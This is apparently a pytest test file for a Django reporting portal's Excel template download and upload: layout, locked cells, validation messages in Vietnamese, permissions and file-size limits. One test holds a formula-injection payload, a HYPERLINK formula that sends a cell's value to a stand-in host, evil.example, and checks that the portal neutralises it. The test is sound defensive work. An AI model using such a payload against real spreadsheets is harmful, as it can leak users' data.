from __future__ import annotations

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from config.vn import format_number
from indicators.models import Indicator
from reports.periods.models import Period
from reports.submissions import excel
from reports.submissions.models import IndicatorValue, Submission, TaskUpdate
from reports.submissions.services import submission_start
from reports.submissions.validation import TaskInput, ValueInput
from tests.conftest import Province
from tests.factories import (
    PeriodFactory,
    sent,
    user_with_role,
)
from tests.reports.submissions.excel_helpers import (
    TASKS,
    VALUES,
    download,
    fill,
    login,
    make_report,
    problems_of,
    report_url,
    row_of,
    save,
    unchanged,
    upload,
)
from tests.reports.submissions.excel_helpers import report as report  # fixture
from units.models import Role, User

pytestmark = pytest.mark.django_db


def test_the_template_has_both_sheets_with_vietnamese_headers_and_the_reports_identity(
    client: Client, report: Submission, unit_user: User
) -> None:
    response = login(client, unit_user).get(reverse("reports:excel_template", args=[report.pk]))
    assert response["Content-Type"] == excel.CONTENT_TYPE
    assert response["Content-Disposition"] == (
        f'attachment; filename="bao-cao-VP-VINHYEN-quy-i-nam-2016-'
        f'{report.directive.code.replace("/", "-").lower()}.xlsx"'
    )
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == [VALUES, TASKS, "_chitieu"]
    values, tasks = book[VALUES], book[TASKS]
    assert [c.value for c in values[7]] == [
        "Mã chỉ số",
        "Tên chỉ số",
        "Đơn vị tính",
        "Chỉ tiêu của đơn vị",
        "Kỳ trước",
        "Tử số",
        "Mẫu số",
        "Giá trị",
        "Ghi chú",
    ]
    assert [c.value for c in tasks[7]][:6] == [
        "Số",
        "Nội dung nhiệm vụ",
        "Vai trò",
        "Thời hạn",
        "Tình hình",
        "Ngày hoàn thành",
    ]
    assert values["B2"].value == "UBND thành phố Vĩnh Yên"
    assert values["B3"].value == "Quý I năm 2016"
    assert values["B4"].value.startswith(report.directive.code)
    assert values["B5"].value == "16/03/2016"
    assert [values.cell(r, 1).value for r in range(8, 11)] == ["KY_SO", "DVC", "CO_TRUC"]
    assert [tasks.cell(r, 1).value for r in range(8, 10)] == ["1", "2.a"]
    assert [tasks.cell(r, 3).value for r in range(8, 10)] == ["Chủ trì", "Phối hợp"]
    assert tasks["D9"].value == "Thường xuyên"
    identity = book["_chitieu"]
    assert identity.sheet_state == "veryHidden" and identity.protection.sheet
    assert dict(identity.iter_rows(values_only=True)) == {
        "format": "chitieu/report-xlsx@1",
        "submission": report.pk,
        "unit": "VP-VINHYEN",
        "period_kind": "quarter",
        "period_year": 2016,
        "period_number": 1,
        "directive": report.directive.code,
        "version": 1,
    }


def test_the_template_is_prefilled_with_the_draft_and_last_periods_figures(
    client: Client, province: Province, report: Submission, unit_user: User
) -> None:
    before = PeriodFactory(
        year=2015,
        number=4,
        starts_on=datetime.date(2015, 9, 15),
        ends_on=datetime.date(2015, 12, 14),
        due_on=datetime.date(2015, 12, 16),
        status=Period.Status.CLOSED,
    )
    accepted = sent(
        unit=province.district,
        period=before,
        directive=report.directive,
        status=Submission.Status.ACCEPTED,
        reviewed_at=timezone.now(),
    )
    IndicatorValue.objects.create(
        submission=accepted, indicator=Indicator.objects.get(code="DVC"), value=Decimal(7)
    )
    save(
        report,
        unit_user,
        [
            ValueInput("KY_SO", numerator=Decimal("45.5"), denominator=Decimal(50)),
            ValueInput("DVC", value=Decimal(9), note="Theo Cổng dịch vụ công"),
            ValueInput("CO_TRUC", value=Decimal(0)),
        ],
        [TaskInput("1", "done_on_time", "Đã xong", completed_on=datetime.date(2016, 3, 1))],
    )
    book = download(login(client, unit_user), report)
    values, tasks = book[VALUES], book[TASKS]
    assert (values["F8"].value, values["G8"].value) == (45.5, 50)
    assert values["H8"].value.startswith("=IF(")  # the portal computes a ratio
    assert "Tử số: Số văn bản ký số" in values["B8"].value
    assert values["D8"].value == "≥ 1% (hạn 30/06/2016)"
    assert (values["E9"].value, values["H9"].value, values["I9"].value) == (
        7,
        9,
        "Theo Cổng dịch vụ công",
    )
    assert values["H10"].value == "Không"
    assert tasks["E8"].value == "Hoàn thành"
    assert tasks["F8"].value == datetime.datetime(2016, 3, 1)
    assert tasks["G8"].value == "Đã xong"
    assert tasks["E9"].value is None  # not reported yet


def test_label_cells_are_locked_and_input_cells_unlocked_on_protected_sheets(
    client: Client, report: Submission, unit_user: User
) -> None:
    book = download(login(client, unit_user), report)
    values, tasks = book[VALUES], book[TASKS]
    assert values.protection.sheet and tasks.protection.sheet
    assert book.security.lockStructure
    for ref in ("A8", "B8", "D8", "E8", "H8", "A7", "B2", "F9", "G9"):
        assert values[ref].protection.locked, ref
    for ref in ("F8", "G8", "I8", "H9", "I9", "H10"):
        assert not values[ref].protection.locked, ref
    for ref in ("A8", "B8", "C8", "D8"):
        assert tasks[ref].protection.locked, ref
    for ref in ("E8", "F8", "G8", "H8", "I8"):
        assert not tasks[ref].protection.locked, ref


def test_input_cells_carry_data_validations(
    client: Client, report: Submission, unit_user: User
) -> None:
    book = download(login(client, unit_user), report)

    def rule(ws, ref: str):
        return next(dv for dv in ws.data_validations.dataValidation if ref in dv.sqref)

    values, tasks = book[VALUES], book[TASKS]
    ratio = rule(values, "F8")
    assert (ratio.type, ratio.operator, ratio.formula1) == ("decimal", "greaterThanOrEqual", "0")
    assert rule(values, "G8") is ratio
    assert (rule(values, "H9").type, rule(values, "H9").formula1) == ("whole", "0")
    assert rule(values, "H10").formula1 == '"Có,Không"'
    status = rule(tasks, "E9")
    assert status.formula1 == '"Chưa triển khai,Đang thực hiện,Hoàn thành"'
    assert rule(tasks, "F8").type == "date"
    assert all(dv.showErrorMessage for dv in values.data_validations.dataValidation)


def test_formula_injection_in_a_note_is_neutralised_and_survives_the_round_trip(
    client: Client, report: Submission, unit_user: User
) -> None:
    note = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    save(report, unit_user, [ValueInput("DVC", value=Decimal(3), note=note)])
    save(report, unit_user, [], [TaskInput("1", "in_progress", "- đang làm\n+ còn lại")])
    book = download(login(client, unit_user), report)
    cell = book[VALUES]["I9"]
    assert cell.value == "'" + note and cell.data_type == "s"
    assert book[TASKS]["G8"].value == "'- đang làm\n+ còn lại"
    version = Submission.objects.get(pk=report.pk).version
    assert upload(client, report, book).status_code == 302
    report.refresh_from_db()
    assert report.version == version  # nothing changed: the escape came off on the way in
    assert report.values.get(indicator__code="DVC").note == note


# The upload ---------------------------------------------------------------------------------


def test_a_filled_template_saves_the_figures_and_task_updates_and_bumps_the_version(
    client: Client, report: Submission, unit_user: User
) -> None:
    book = fill(download(login(client, unit_user), report))
    response = upload(client, report, book)
    assert response.status_code == 302 and response.url == report_url(report)
    report.refresh_from_db()
    assert report.version == 2
    figures = {v.indicator.code: v for v in report.values.select_related("indicator")}
    assert (figures["KY_SO"].numerator, figures["KY_SO"].denominator) == (45, Decimal("1234.5"))
    assert figures["KY_SO"].value == Decimal("3.6452")
    assert figures["DVC"].value == 12 and figures["DVC"].note == "Tính cả dịch vụ mức 4"
    assert figures["CO_TRUC"].value == 1
    updates = {u.task.number: u for u in report.task_updates.select_related("task")}
    assert updates["1"].status == TaskUpdate.Status.DONE_ON_TIME
    assert updates["1"].completed_on == datetime.date(2016, 3, 1)
    assert updates["1"].progress == "Đã ký số 100% văn bản đi"
    assert updates["2.a"].status == TaskUpdate.Status.IN_PROGRESS
    assert updates["2.a"].difficulties == "Thiếu kinh phí"
    shown = [str(m) for m in response.wsgi_request._messages]
    assert shown == ["Đã nạp tệp Excel và lưu số liệu vào báo cáo."]


def test_uploading_the_template_untouched_changes_nothing(
    client: Client, report: Submission, unit_user: User
) -> None:
    assert upload(login(client, unit_user), report, download(client, report)).status_code == 302
    assert unchanged(report)


def test_the_reports_warnings_come_back_placed_on_their_cells(
    client: Client, province: Province, report: Submission, unit_user: User
) -> None:
    before = PeriodFactory(
        year=2015,
        number=4,
        starts_on=datetime.date(2015, 9, 15),
        ends_on=datetime.date(2015, 12, 14),
        due_on=datetime.date(2015, 12, 16),
    )
    accepted = sent(
        unit=province.district,
        period=before,
        directive=report.directive,
        status=Submission.Status.ACCEPTED,
        reviewed_at=timezone.now(),
    )
    IndicatorValue.objects.create(
        submission=accepted, indicator=Indicator.objects.get(code="DVC"), value=Decimal(100)
    )
    book = download(login(client, unit_user), report)
    book[VALUES]["H9"] = 10
    response = upload(client, report, book)
    assert response.status_code == 302
    shown = [str(m) for m in response.wsgi_request._messages]
    assert shown[1] == "Chỉ số!H9: Giảm hơn một nửa so với kỳ trước (100): hãy kiểm tra lại."


def test_rule_breaches_are_refused_with_their_cells_and_nothing_is_saved(
    client: Client, report: Submission, unit_user: User
) -> None:
    book = download(login(client, unit_user), report)
    book[VALUES]["F8"], book[VALUES]["G8"] = 60, 50
    book[VALUES]["H9"] = -3
    book[TASKS]["E8"] = "Hoàn thành"
    book[TASKS]["G8"] = "x" * 5001
    response = upload(client, report, book)
    assert problems_of(response) == [
        "Chỉ số!F8: Tử số không được lớn hơn mẫu số.",
        "Chỉ số!H9: Không được nhập số âm.",
        "Nhiệm vụ!G8: Tối đa 5.000 ký tự.",
    ]
    page = response.content.decode()
    assert "Chỉ số!F8: Tử số không được lớn hơn mẫu số." in page
    assert "Tệp không được nạp vì có 3 lỗi; không có dữ liệu nào được ghi." in page
    assert f'href="{report_url(report)}"' in page
    assert unchanged(report)


def test_cells_that_do_not_read_are_all_listed_along_with_rule_breaches(
    client: Client, report: Submission, unit_user: User
) -> None:
    book = download(login(client, unit_user), report)
    values, tasks = book[VALUES], book[TASKS]
    values["F8"], values["G8"] = "45", "nhiều"  # text in a number cell
    values["H9"] = "1.5"  # neither 1.500 nor 1,5: ambiguous, refused
    values["H10"] = "Đúng"
    tasks["E8"] = "Xong rồi"
    tasks["F8"] = "31/02/2016"
    tasks["E9"] = "Đang thực hiện"
    tasks["G9"] = "=1+1"
    response = upload(client, report, book)
    number = (
        "Phải là số. Số viết dạng chữ phải theo kiểu Việt Nam: dấu chấm ngăn nghìn, dấu phẩy "
        "thập phân (ví dụ 1.234,5)."
    )
    assert problems_of(response) == [
        f"Chỉ số!G8: {number}",
        f"Chỉ số!H9: {number}",
        "Chỉ số!H10: Chọn Có hoặc Không.",
        "Nhiệm vụ!E8: Tình hình phải là một trong: Chưa triển khai, Đang thực hiện, Hoàn thành.",
        "Nhiệm vụ!F8: Phải là ngày, dạng ngày/tháng/năm (ví dụ 05/01/2026).",
        "Nhiệm vụ!G9: Không được dùng công thức trong ô nhập; hãy nhập giá trị.",
    ]
    assert unchanged(report)


def test_rows_that_do_read_are_still_checked_when_others_do_not(
    client: Client, report: Submission, unit_user: User
) -> None:
    book = download(login(client, unit_user), report)
    book[VALUES]["F8"], book[VALUES]["G8"] = 9, 3
    book[VALUES]["H9"] = "mười"
    assert problems_of(upload(client, report, book)) == [
        "Chỉ số!F8: Tử số không được lớn hơn mẫu số.",
        "Chỉ số!H9: Phải là số. Số viết dạng chữ phải theo kiểu Việt Nam: dấu chấm ngăn "
        "nghìn, dấu phẩy thập phân (ví dụ 1.234,5).",
    ]


def test_a_changed_layout_is_refused(client: Client, report: Submission, unit_user: User) -> None:
    book = download(login(client, unit_user), report)
    book[VALUES]["A9"] = "KHAC"
    book[VALUES]["A20"], book[VALUES]["H20"] = "KY_SO", 5
    book[TASKS]["H7"] = "Khó khăn"
    assert problems_of(upload(client, report, book)) == [
        "Chỉ số: Thiếu dòng của mã DVC; hãy tải tệp mẫu mới.",
        "Chỉ số!A9: Mã KHAC không thuộc báo cáo này; hãy tải tệp mẫu mới.",
        "Chỉ số!A20: Mã KY_SO bị lặp (đã có ở dòng 8).",
        "Nhiệm vụ: Các cột ở dòng 7 không đúng mẫu; hãy tải tệp mẫu mới.",
    ]
    assert unchanged(report)


def test_a_workbook_without_its_identity_sheet_is_refused(
    client: Client, report: Submission, unit_user: User
) -> None:
    book = fill(download(login(client, unit_user), report))
    del book["_chitieu"]
    [problem] = problems_of(upload(client, report, book))
    assert problem.startswith("Tệp: Không tìm thấy thông tin nhận diện của tệp mẫu")
    assert unchanged(report)


def test_another_units_template_is_refused(
    client: Client, province: Province, report: Submission, unit_user: User
) -> None:
    theirs = submission_start(
        unit=province.other_district,
        period=report.period,
        directive=report.directive,
        by=None,
    )
    book = openpyxl.load_workbook(io.BytesIO(excel.report_template(theirs)))
    book[TASKS]["E8"] = "Đang thực hiện"
    assert problems_of(upload(login(client, unit_user), report, book)) == [
        "Tệp: Tệp mẫu này là báo cáo của đơn vị mã VP-TAMDAO, không phải của UBND thành phố "
        "Vĩnh Yên (VP-VINHYEN). Hãy tải tệp mẫu từ báo cáo của đơn vị mình."
    ]
    assert unchanged(report)


def test_an_old_periods_template_is_refused(
    client: Client, province: Province, report: Submission, unit_user: User
) -> None:
    next_quarter = PeriodFactory(
        number=2,
        starts_on=datetime.date(2016, 3, 15),
        ends_on=datetime.date(2016, 6, 14),
        due_on=datetime.date(2016, 6, 16),
    )
    current = submission_start(
        unit=province.district, period=next_quarter, directive=report.directive, by=unit_user
    )
    book = fill(download(login(client, unit_user), report))
    assert problems_of(upload(client, current, book)) == [
        "Tệp: Tệp mẫu này dành cho kỳ Quý I năm 2016, không phải kỳ Quý II năm 2016 của báo "
        "cáo này. Hãy tải tệp mẫu của kỳ Quý II năm 2016."
    ]
    assert unchanged(current)


def test_a_template_older_than_the_last_save_is_refused(
    client: Client, report: Submission, unit_user: User
) -> None:
    book = fill(download(login(client, unit_user), report))
    save(report, unit_user, [ValueInput("DVC", value=Decimal(4))])
    assert problems_of(upload(client, report, book)) == [
        "Tệp: Báo cáo đã được lưu sau khi tải tệp mẫu này (tệp mẫu: phiên bản 1, hiện tại: "
        "phiên bản 2). Hãy tải tệp mẫu mới, nhập lại số liệu rồi nạp lên; chưa có gì được lưu."
    ]
    report.refresh_from_db()
    assert report.version == 2 and report.values.get().value == 4


@pytest.mark.parametrize(
    "content",
    [b"Ma chi so;Gia tri\nDVC;12\n", b"PK\x03\x04 not really a zip", b""],
    ids=["csv", "broken-zip", "empty"],
)
def test_a_file_that_is_not_an_xlsx_workbook_is_refused(
    client: Client, report: Submission, unit_user: User, content: bytes
) -> None:
    [problem] = problems_of(upload(login(client, unit_user), report, content))
    assert problem.startswith("Tệp: Tệp không phải bảng tính Excel (.xlsx) đọc được.")
    assert unchanged(report)


def test_an_upload_without_a_file_is_refused(
    client: Client, report: Submission, unit_user: User
) -> None:
    response = login(client, unit_user).post(reverse("reports:excel_upload", args=[report.pk]))
    assert problems_of(response) == ["Tệp: Chưa chọn tệp Excel để nạp."]


def test_an_oversized_file_is_refused(
    client: Client, report: Submission, unit_user: User, settings
) -> None:
    settings.CHITIEU_MAX_UPLOAD_BYTES = 1024 * 1024
    book = download(login(client, unit_user), report)
    book[VALUES]["I9"] = "x" * 3 * 1024 * 1024  # compresses well; counts by its upload size
    out = io.BytesIO()
    book.save(out)
    padded = out.getvalue() + b"\0" * (1024 * 1024)
    assert problems_of(upload(client, report, padded)) == [
        f"Tệp: Tệp quá lớn ({format_number(Decimal(len(padded)) / 2**20, 1)} MB); tệp mẫu báo "
        "cáo không được quá 1 MB."
    ]
    assert unchanged(report)


def test_a_file_that_unpacks_too_large_is_refused(
    client: Client, report: Submission, unit_user: User, monkeypatch
) -> None:
    book = download(login(client, unit_user), report)
    monkeypatch.setattr(excel.upload, "MAX_UNZIPPED_BYTES", 2**20)
    for row in range(1, 40):
        book[VALUES].cell(row, 20, "x" * 30_000)  # a few KB zipped
    assert problems_of(upload(client, report, book)) == [
        "Tệp: Nội dung tệp quá lớn khi giải nén (hơn 1 MB); tệp mẫu không lớn như vậy."
    ]


def test_rows_past_the_limit_are_refused(
    client: Client, report: Submission, unit_user: User, monkeypatch
) -> None:
    monkeypatch.setattr(excel.upload, "MAX_ROWS", 5)
    book = download(login(client, unit_user), report)
    book[TASKS]["G40"] = "thêm"
    assert problems_of(upload(client, report, book)) == [
        "Nhiệm vụ: Có dữ liệu quá dòng 12; tệp mẫu chỉ nhận 5 dòng."
    ]


# Permissions and cost -----------------------------------------------------------------------


def test_an_outsider_gets_404_on_both(client: Client, report: Submission, outsider: User) -> None:
    login(client, outsider)
    assert client.get(reverse("reports:excel_template", args=[report.pk])).status_code == 404
    assert upload(client, report, b"x").status_code == 404


def test_a_guessed_id_gives_404(client: Client, report: Submission, unit_user: User) -> None:
    login(client, unit_user)
    assert client.get(reverse("reports:excel_template", args=[report.pk + 99])).status_code == 404
    assert upload(client, Submission(pk=report.pk + 99), b"x").status_code == 404


def test_a_leader_of_the_province_may_download_but_not_upload(
    client: Client, report: Submission, parent_user: User
) -> None:
    book = download(login(client, parent_user), report)
    assert upload(client, report, fill(book)).status_code == 403
    assert unchanged(report)


def test_a_sent_report_cannot_be_uploaded_into(
    client: Client, report: Submission, unit_user: User
) -> None:
    book = download(login(client, unit_user), report)
    Submission.objects.filter(pk=report.pk).update(
        status=Submission.Status.SUBMITTED, submitted_at=timezone.now(), is_late=False
    )
    assert upload(client, report, fill(book)).status_code == 403


def test_the_upload_answers_only_post(client: Client, report: Submission, unit_user: User) -> None:
    login(client, unit_user)
    assert client.get(reverse("reports:excel_upload", args=[report.pk])).status_code == 405


def test_anonymous_visitors_are_sent_to_the_login_page(client: Client, report: Submission) -> None:
    for response in (
        client.get(reverse("reports:excel_template", args=[report.pk])),
        upload(client, report, b"x"),
    ):
        assert response.status_code == 302 and response.url.startswith(reverse("login"))


@pytest.mark.parametrize("indicators", [5, 40])
def test_the_download_uses_a_fixed_number_of_queries(
    client: Client, province: Province, django_assert_max_num_queries, indicators: int
) -> None:
    user = user_with_role(Role.REPORTER, province.district)
    submission = make_report(province, user, indicators=indicators)
    login(client, user)
    # 10, the unit's name as in the period, the download's entry in the change log, and the
    # provinces of the user's roles (the one province scope the report is looked up in)
    with django_assert_max_num_queries(13):
        book = download(client, submission)
    assert (
        book[VALUES].cell(excel.FIRST_ROW + indicators + 2, 1).value == f"SO_{indicators - 1:02d}"
    )


def test_the_indicator_code_stays_for_the_upload_but_small_and_grey_beside_its_name(
    client: Client, report: Submission, unit_user: User
) -> None:
    ws = download(login(client, unit_user), report)[VALUES]
    row = row_of(ws, "DVC")
    code = ws.cell(row, excel.layout.V["code"])
    assert ws.cell(row, excel.layout.V["name"]).value.startswith("Chỉ số thử")
    assert code.font.sz == 8 and code.font.color.rgb.endswith("6B6B6B")
